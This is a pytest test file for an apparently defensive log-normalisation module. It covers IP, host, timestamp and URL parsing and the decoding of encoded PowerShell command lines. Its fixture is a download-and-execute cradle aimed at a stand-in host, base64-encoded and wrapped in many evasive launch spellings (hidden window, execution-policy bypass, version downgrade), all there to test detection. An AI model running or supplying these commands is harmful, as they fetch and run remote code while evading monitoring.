"""Normalisation helpers of the hot paths."""

from __future__ import annotations

import base64
from datetime import UTC, datetime
from urllib.parse import urlsplit

import pytest

from ingest.normalize import (
    canonical_ip,
    decode_powershell_command,
    ip_or_none,
    is_powershell_image,
    normalize_domain,
    normalize_host,
    normalize_url,
    parse_timestamp,
)


@pytest.mark.parametrize(
    "text",
    ["10.0.0.1", " 10.0.0.1 ", "::ffff:10.0.0.1", "[2001:db8::1]", "fe80::1%eth0", "ws-0042",
     "-", "", "999.1.1.1", "WORKSTATION5.theshire.local"],
)
def test_ip_or_none_is_the_lenient_canonical_ip(text):
    assert ip_or_none(text) == canonical_ip(text, strict=False)


# -- PowerShell -EncodedCommand --------------------------------------------------

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-img-delivery.example/a.png')"
B64 = base64.b64encode(SCRIPT.encode("utf-16-le")).decode()
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
ALL_PREFIXES = ["encodedcommand"[:n] for n in range(1, len("encodedcommand") + 1)]


def _b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize("name", [*ALL_PREFIXES, "ec"])
@pytest.mark.parametrize("case", [str.lower, str.upper, str.title])
def test_every_prefix_of_encodedcommand_and_ec_decode(name: str, case) -> None:
    assert decode_powershell_command(f"{PS} -nop -w hidden -{case(name)} {B64}") == SCRIPT


@pytest.mark.parametrize(
    "command_line",
    [
        f"powershell -e {B64}",
        f"powershell.exe -ec {B64}",
        f"powershell -ENC {B64}",
        f"powershell -eNcOdEdCoMmAnD {B64}",
        f"powershell /enc {B64}",
        f"powershell /ec {B64}",
        f"powershell --enc {B64}",
        f"powershell \u2013enc {B64}",  # en dash
        f"powershell \u2014enc {B64}",  # em dash
        f"powershell \u2015ec {B64}",  # horizontal bar
        f'powershell "-enc" {B64}',  # the switch in quotes is the same argument
        f'powershell -enc "{B64}"',  # double quotes are argument syntax
        f'powershell -enc "{B64[:20]} {B64[20:40]}\t{B64[40:]}"',  # .NET skips white space in base64
        f"powershell -enc   {B64}   -noexit",
        f"powershell -ep bypass -enc {B64}",
        f"powershell -ex bypass -e {B64}",
        f"powershell -version 2 -enc {B64}",  # downgrade: -version takes a value
        f"powershell -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {B64}",
        f'"{PS}" -noP -sta -w 1 -enc  {B64}',
        rf"C:\Program Files\PowerShell\7\pwsh.exe -ec {B64}",
        rf'"C:\Program Files\PowerShell\7\pwsh.exe" -ec {B64}',
        f"PWSH -e {B64}",
        rf"C:\Windows\System32\WindowsPowerShell\v1.0\PowerShell_ISE.EXE -enc {B64}",
    ],
)
def test_spellings_powershell_accepts_are_decoded(command_line: str) -> None:
    assert decode_powershell_command(command_line) == SCRIPT


@pytest.mark.parametrize(
    "command_line",
    [
        f"powershell -ex {B64}",  # -ExecutionPolicy
        f"powershell -ep {B64}",  # -ExecutionPolicy's alias
        f"powershell -ea {B64}",  # -EncodedArguments
        f"powershell -encodeda {B64}",
        f"powershell -encodedcommandx {B64}",
        f"powershell -EncodedCommand:{B64}",  # no such switch: PowerShell fails on it
        f"powershell -enc '{B64}'",  # single quotes reach .NET and are not base64
        f"powershell -enc {B64[:20]} {B64[20:]}",  # unquoted split: PowerShell refuses the second part
        f"powershell -c echo -enc {B64}",  # after -Command the rest is the script's text
        f'powershell -command "Write-Host -enc {B64}"',
        f"powershell -f run.ps1 -enc {B64}",
        f"powershell run.ps1 -enc {B64}",  # a free argument starts the command or file
        f"powershell -enc {B64} -c dir",  # a second command: PowerShell refuses it
        f"powershell -enc {B64} extra",
        "powershell -enc",
        f"powershell enc {B64}",
        f"powershell e{B64}",
        f"cmd /c echo -e {B64}",  # not PowerShell
        f"cmd.exe /c powershell -enc {B64}",  # the process is cmd.exe; its child's line has its own event
        f"python -enc {B64}",
        f"C:\\tools\\powershell-helper.exe -enc {B64}",
    ],
)
def test_spellings_powershell_refuses_are_not_decoded(command_line: str) -> None:
    assert decode_powershell_command(command_line) is None


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        (_b64("IEX"), "IEX"),  # 'SQBFAFgA': no padding needed
        (_b64("IEX1"), "IEX1"),  # 'SQBFAFgAMQA=': one '='
        (_b64("IEX1").rstrip("="), "IEX1"),  # unpadded, cut short by a logger
        (_b64("Get-Date"), "Get-Date"),
        (_b64("IEX12"), "IEX12"),  # 'SQBFAFgAMQAyAA==': two '='
        (_b64("IEX12").rstrip("="), "IEX12"),
        (_b64("IEX12")[:-1], "IEX12"),
        (_b64("IEX1") + "=", None),  # too much padding
        (_b64("IEX12")[:-3], None),  # one base64 character left over: no byte
        ("SQBF-AFgA", None),  # base64url characters: .NET refuses them
        ("SQBF_AFgA", None),
        ("", None),
    ],
)
def test_padding_variants(payload: str, expected: str | None) -> None:
    assert decode_powershell_command(f"powershell -enc {payload}" if payload else "powershell -enc") == expected


@pytest.mark.parametrize(
    "payload",
    [
        base64.b64encode(b"Hello World!!!").decode(),  # ASCII read as UTF-16LE: CJK-range garbage
        base64.b64encode(bytes(range(32)) * 2).decode(),  # control characters
        base64.b64encode("\x01\x02\x03\x04IEX".encode("utf-16-le")).decode(),
        base64.b64encode(b"\x00\xd8A\x00B\x00C\x00").decode(),  # lone high surrogate
        base64.b64encode(bytes(range(256))).decode(),
        base64.b64encode("中文字符串的脚本".encode("utf-16-le")).decode(),  # no PowerShell syntax
    ],
)
def test_garbage_payloads_are_not_decoded(payload: str) -> None:
    assert decode_powershell_command(f"powershell.exe -enc {payload}") is None


def test_a_script_with_a_few_odd_characters_is_still_decoded() -> None:
    # one NUL or non-ASCII word must not hide a real script from the analyst
    script = "Write-Host 'héllo wörld'\x00; " + SCRIPT
    assert decode_powershell_command(f"powershell -enc {_b64(script)}") == script


@pytest.mark.parametrize(
    ("executable", "decodes"),
    [
        (PS, True),
        ("pwsh", True),
        ("/usr/bin/pwsh", True),
        ("POWERSHELL.EXE", True),
        (r"C:\Windows\System32\cmd.exe", False),
        (r"C:\Windows\System32\wscript.exe", False),
        ("powershell.exe.bak", False),
    ],
)
def test_the_executable_decides_when_given(executable: str, decodes: bool) -> None:
    # the command line's own program is powershell; the image given wins
    result = decode_powershell_command(f"powershell -enc {B64}", executable)
    assert (result == SCRIPT) if decodes else result is None


def test_the_command_line_program_decides_when_no_executable() -> None:
    assert decode_powershell_command(f"whatever.exe -enc {B64}", PS) == SCRIPT
    assert decode_powershell_command(f"whatever.exe -enc {B64}") is None


def test_is_powershell_image() -> None:
    assert [is_powershell_image(p) for p in (PS, '"pwsh.exe"', "powershell_ise", None, "", "ps.exe")] == [
        True, True, True, False, False, False,
    ]


# -- hosts, epoch times, URLs ------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("WORKSTATION5.theshire.local", "workstation5"),
        ("192.168.1.41:8080", "192.168.1.41"),  # the audit's case: was "192"
        ("192.168.1.41", "192.168.1.41"),
        ("WS-0042.corp.example:3389", "ws-0042"),
        ("ws-0042:445", "ws-0042"),
        ("[2001:DB8::1]:443", "2001:db8::1"),
        ("2001:db8::1", "2001:db8::1"),  # a bare IPv6 address loses no group to the port rule
        ("::ffff:10.0.0.1", "10.0.0.1"),
        ("10.0.0.5.", "10.0.0.5"),
        ("192.168.1.999", "192.168.1.999"),  # dotted digits: not a name to cut
        ("CORP\\WS-9$", "ws-9"),
        ("-", None),
    ],
)
def test_normalize_host(text: str, expected: str | None) -> None:
    assert normalize_host(text) == expected


MOMENT = 1772359200.123456  # 2026-03-01T10:00:00.123456Z


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (1772359200, 1772359200.0),  # seconds
        (1772359200.5, 1772359200.5),
        ("1772359200", 1772359200.0),
        (1772359200123, 1772359200.123),  # milliseconds
        ("1772359200123", 1772359200.123),
        (1772359200123456, MOMENT),  # microseconds (failed with "year out of range")
        ("1772359200123456", MOMENT),
        (1772359200123456789, 1772359200.1234567),  # nanoseconds
        ("1772359200123456789", 1772359200.1234567),
        (1.772359200123456e18, MOMENT),
        (99_999_999_999, 99_999_999_999.0),  # the last second count: year 5138
        (100_000_000_000, 100_000_000.0),  # the first millisecond count: 1973-03-03
        (0, 0.0),
        ("-86400", -86400.0),
    ],
)
def test_epoch_times_by_magnitude(value: object, expected: float) -> None:
    ts = parse_timestamp(value)
    assert ts == pytest.approx(expected, abs=1e-6)
    datetime.fromtimestamp(ts, UTC)  # a real moment, not "year out of range"


@pytest.mark.parametrize("value", [float("nan"), float("inf"), "inf", "nan"])
def test_epoch_times_that_are_not_finite_are_refused(value: object) -> None:
    with pytest.raises(ValueError):
        parse_timestamp(value)


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://bücher.example/", "http://xn--bcher-kva.example/"),  # IDNA, as normalize_domain
        ("HTTP://Bücher.Example./Pfad?q=Ä", "http://xn--bcher-kva.example/Pfad?q=Ä"),  # path and query as written
        ("https://WWW.Example.COM.:443/a", "https://www.example.com/a"),  # no trailing dot, default port dropped
        ("http://www.example.com:8080", "http://www.example.com:8080/"),
        ("http://[2001:DB8::1]:8443/x", "http://[2001:db8::1]:8443/x"),
        ("http://[::ffff:10.0.0.1]/x", "http://10.0.0.1/x"),
        ("ftp://Files.Example:21/a", "ftp://files.example/a"),
    ],
)
def test_url_hosts_are_normalised_as_domains_are(url: str, expected: str) -> None:
    assert normalize_url(url) == expected
    host = urlsplit(expected).hostname
    assert normalize_domain(host) in (host, None)  # the URL's host is the domain entity's key (None: an IP)


@pytest.mark.parametrize(
    "url",
    [
        "http://example.org:99999/",  # port out of range: refused, not silently dropped
        "http://example.org:http/",
        "http://example.org:-1/",
        "http:///path",  # no host
        "http://exa mple.org/",  # not a domain name
        "/relative/without/host",
    ],
)
def test_malformed_urls_are_refused_with_a_reason(url: str) -> None:
    with pytest.raises(ValueError, match=r"URL|domain"):
        normalize_url(url)


def test_relative_urls_take_the_host_and_its_port() -> None:
    assert normalize_url("index.php", host="Bücher.Example:8080") == "http://xn--bcher-kva.example:8080/index.php"
    with pytest.raises(ValueError, match="port"):
        normalize_url("/x", host="example.org:0x50")
